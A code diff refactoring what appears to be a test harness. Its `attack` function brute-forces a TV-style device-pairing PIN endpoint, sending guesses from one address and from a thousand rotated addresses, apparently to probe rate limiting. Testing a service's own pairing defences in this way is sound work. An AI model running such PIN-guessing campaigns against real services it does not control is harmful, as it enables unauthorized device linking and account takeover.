@@ -101,22 +101,22 @@ export interface Campaign {
 
 const atOnce = 24
 
-/** Guesses `times` times, each way, from one address and from a thousand. A device waits with a living PIN all the while. */
+/** Every way to guess, from one address and from a thousand. */
+export const ways: readonly { readonly what: string; readonly from: string }[] = Object.keys(guesses).flatMap(
+  (what) => ['one address', 'a thousand addresses'].map((from) => ({ what, from })),
+)
+
+/** Guesses `times` times in one way. A device waits with a living PIN all the while. */
 export async function attack(
   target: Target,
   times: number,
-  say: (line: string) => void,
-): Promise<Campaign[]> {
-  const campaigns: Campaign[] = []
-  for (const [what, guess] of Object.entries(guesses))
-    for (const [from, address] of Object.entries({ 'one address': one, 'a thousand addresses': many })) {
-      const device = `tv-${randomBytes(8).toString('hex')}`
-      await sendFrom(home, `${target.url}/pin/acquire`, { app_key: target.app_key, linked_device_id: device })
-      const campaign = await run(target, what, from, times, (index) => guess(target, address(index), device))
-      campaigns.push(campaign)
-      say(`${what}, from ${from}: ${JSON.stringify(campaign.byStatus)} in ${campaign.seconds.toFixed(1)} s`)
-    }
-  return campaigns
+  { what, from }: (typeof ways)[number],
+): Promise<Campaign> {
+  const guess = guesses[what] as Guess
+  const address = from === 'one address' ? one : many
+  const device = `tv-${randomBytes(8).toString('hex')}`
+  await sendFrom(home, `${target.url}/pin/acquire`, { app_key: target.app_key, linked_device_id: device })
+  return run(target, what, from, times, (index) => guess(target, address(index), device))
 }
 
 async function run(
